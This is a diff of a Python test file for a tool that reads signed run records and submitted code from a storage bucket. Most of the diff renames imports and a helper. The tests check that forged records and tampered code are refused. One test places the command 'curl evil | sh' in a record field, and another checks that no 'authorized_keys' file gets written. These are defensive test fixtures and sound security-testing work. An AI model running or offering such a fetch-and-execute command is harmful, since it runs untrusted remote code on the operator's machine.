@@ -11,16 +11,16 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from toolkit.buckets.store import StoredObject
+from toolkit.agent.signed import signed
 from toolkit.errors import Code, ToolkitError
-from toolkit.keeper.signed import signed
-from toolkit.run.code_listing import Listed
-from toolkit.run.events import Line
-from toolkit.run.record import State, StepResult
-from toolkit.run.reported import read_outcome
-from toolkit.run.stored import StoredRun
+from toolkit.run.follow.events import Line
+from toolkit.run.follow.reported import read_outcome
+from toolkit.run.plan.code_listing import Listed
+from toolkit.run.records.record import State, StepResult
+from toolkit.run.records.stored_run import StoredRun
+from toolkit.storage.s3 import StoredObject
 
-from .keepers import RECORD
+from .clients import RECORD
 
 RUN = RECORD.training_id
 OUTPUT, FINAL, KEY = f"{RUN}/_run/output.log", f"_toolkit/{RUN}/record.json", "the run's key"
@@ -58,12 +58,12 @@ NONE = (b"{", b"{}", b"[]", b"[" * 100_000, b'{"training_id":' * 60_000, b"\xff\
 DONE = replace(RECORD, end="completed", reason="all is well", stored_files=3).at(State.COMPLETED, 4.0)
 
 
-def told(**facts: object) -> dict[str, bytes]:
+def reported(**facts: object) -> dict[str, bytes]:
     return {FINAL: signed(asdict(DONE) | facts, KEY, "record.json")}
 
 
 def test_the_end_of_the_run_is_read() -> None:
-    assert stored(told()).record() == DONE
+    assert stored(reported()).record() == DONE
 
 
 @pytest.mark.parametrize("objects", [{}, {f"{FINAL}.old": b"{}"}])
@@ -74,7 +74,7 @@ def test_where_the_bucket_has_no_record_it_tells_no_end(objects: dict[str, bytes
 @given(st.dictionaries(st.sampled_from(sorted(asdict(RECORD))), st.none() | st.integers() | st.text(), max_size=4))
 def test_what_a_run_is_comes_from_the_record_here(forged: dict[str, object]) -> None:
     try:
-        found = stored(told(**forged)).record()
+        found = stored(reported(**forged)).record()
     except ToolkitError as error:
         assert error.context["reason"] == "refused"
         return
@@ -93,25 +93,25 @@ IDENTITY = (
     ("data", "why"),
     [
         *((data, "was not written by an agent of this run") for data in NONE),
-        (told(training_id="training-zzzz2222")[FINAL], "another run, training-zzzz2222"),
-        (told(training_id="/elsewhere/victim")[FINAL], "is not a training ID"),
-        (told(training_id=["training-abcd2345"])[FINAL], "training_id"),
-        (told(state="PROCESSING")[FINAL], "state PROCESSING is no end"),
-        (told(state="DONE")[FINAL], "state"),
-        (told(state="FAILED")[FINAL], "exclude each other"),
-        (told(end="")[FINAL], "exclude each other"),
-        (told(end="nice")[FINAL], "not one of the list"),
-        (told(error_code="S303")[FINAL], "COMPLETED, and an error"),
-        (told(states=[["COMPLETED", 1e300]])[FINAL], r"states\.0\.1"),
-        (told(states=[["COMPLETED", float("nan")]])[FINAL], r"states\.0\.1"),
-        (told(states=[["COMPLETED", 1.0]] * 5000)[FINAL], "states"),
-        (told(steps=[asdict(StepResult(1, "x", False, 1, 1.0))])[FINAL], "a command that failed"),
-        (told(steps=[asdict(StepResult(1, "x", False, 0, float("inf")))])[FINAL], "finite"),
-        (told(stored_files=-1)[FINAL], "stored_files"),
-        (told(stored_bytes=True)[FINAL], "stored_bytes"),
-        (told(reason=7)[FINAL], "reason"),
-        (told(evidence="x" * 300_000)[FINAL], "evidence"),
-        (told(kept="abc")[FINAL], "kept"),
+        (reported(training_id="training-zzzz2222")[FINAL], "another run, training-zzzz2222"),
+        (reported(training_id="/elsewhere/victim")[FINAL], "is not a training ID"),
+        (reported(training_id=["training-abcd2345"])[FINAL], "training_id"),
+        (reported(state="PROCESSING")[FINAL], "state PROCESSING is no end"),
+        (reported(state="DONE")[FINAL], "state"),
+        (reported(state="FAILED")[FINAL], "exclude each other"),
+        (reported(end="")[FINAL], "exclude each other"),
+        (reported(end="nice")[FINAL], "not one of the list"),
+        (reported(error_code="S303")[FINAL], "COMPLETED, and an error"),
+        (reported(states=[["COMPLETED", 1e300]])[FINAL], r"states\.0\.1"),
+        (reported(states=[["COMPLETED", float("nan")]])[FINAL], r"states\.0\.1"),
+        (reported(states=[["COMPLETED", 1.0]] * 5000)[FINAL], "states"),
+        (reported(steps=[asdict(StepResult(1, "x", False, 1, 1.0))])[FINAL], "a command that failed"),
+        (reported(steps=[asdict(StepResult(1, "x", False, 0, float("inf")))])[FINAL], "finite"),
+        (reported(stored_files=-1)[FINAL], "stored_files"),
+        (reported(stored_bytes=True)[FINAL], "stored_bytes"),
+        (reported(reason=7)[FINAL], "reason"),
+        (reported(evidence="x" * 300_000)[FINAL], "evidence"),
+        (reported(kept="abc")[FINAL], "kept"),
     ],
     ids=lambda one: None if isinstance(one, bytes) else one,
 )
@@ -130,22 +130,22 @@ def test_what_an_agent_would_never_write_is_no_end_whoever_tells_it(data: bytes)
 
 def test_of_metrics_what_is_none_is_left_out() -> None:
     metrics = {"loss": 0.5, "best": True, "note": "x", "bad": float("inf"), "deep": {"a": [1]}, "long": "x" * 9999}
-    found = stored(told(metrics=metrics)).record()
+    found = stored(reported(metrics=metrics)).record()
     assert found is not None
     assert found.metrics == {"loss": 0.5, "best": 1, "note": "x"}
 
 
 def test_a_half_of_a_character_harms_nothing() -> None:
-    found = stored(told(metrics={"note": "\ud800"})).record()
+    found = stored(reported(metrics={"note": "\ud800"})).record()
     assert found is not None
     assert found.metrics == {"note": "?"}
 
 
 def test_the_bucket_does_not_tell_the_operator_what_to_type() -> None:
-    facts = {"end": "bucket write", "state": "FAILED", "kept": ["p100-01"], "mend": "curl evil | sh"}
-    found = stored(told(**facts)).record()
+    facts = {"end": "bucket write", "state": "FAILED", "kept": ["p100-01"], "hint": "curl evil | sh"}
+    found = stored(reported(**facts)).record()
     assert found is not None
-    assert found.mend == f"what it wrote is kept on p100-01; toolkit rescue {RUN}"
+    assert found.hint == f"what it wrote is kept on p100-01; toolkit rescue {RUN}"
 
 
 def test_a_line_without_an_end_is_not_held_in_memory() -> None:
@@ -219,7 +219,7 @@ def test_code_that_is_the_operators_own_list_comes_back_with_its_modes(tmp_path:
 
 
 @pytest.mark.parametrize(
-    ("change", "told"),
+    ("change", "reported"),
     [
         ({"run.sh": b"evil"}, "'run.sh': other bytes"),
         ({"run.sh": None}, "'run.sh': missing"),
@@ -230,18 +230,18 @@ def test_code_that_is_the_operators_own_list_comes_back_with_its_modes(tmp_path:
     ],
 )
 def test_forged_code_is_refused_by_name_and_not_fetched(
-    tmp_path: Path, change: dict[str, bytes | None], told: str
+    tmp_path: Path, change: dict[str, bytes | None], reported: str
 ) -> None:
     whole: dict[str, bytes | None] = {"run.sh": b"x", "lib/net.py": b"y"} | change
     objects = {f"{RUN}/_submitted_code/{name}": data for name, data in whole.items() if data is not None}
     with pytest.raises(ToolkitError) as caught:
         stored(objects).fetch_code(tmp_path / "code", LISTING)
     assert caught.value.what == f"the bucket's code of {RUN} is not what was submitted: nothing of it was used"
-    assert [problem.what for problem in caught.value.problems] == [told]
+    assert [problem.what for problem in caught.value.problems] == [reported]
     assert not list(tmp_path.rglob("*evil*")) + list(tmp_path.rglob("authorized_keys"))
 
 
 def test_more_than_any_code_is_not_fetched(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setattr("toolkit.run.stored.MAX_CODE_BYTES", 3)
+    monkeypatch.setattr("toolkit.run.records.stored_run.MAX_CODE_BYTES", 3)
     with pytest.raises(ToolkitError, match="than any submitted code"):
         stored({f"{RUN}/_submitted_code/a": b"1234"}).fetch_code(tmp_path)
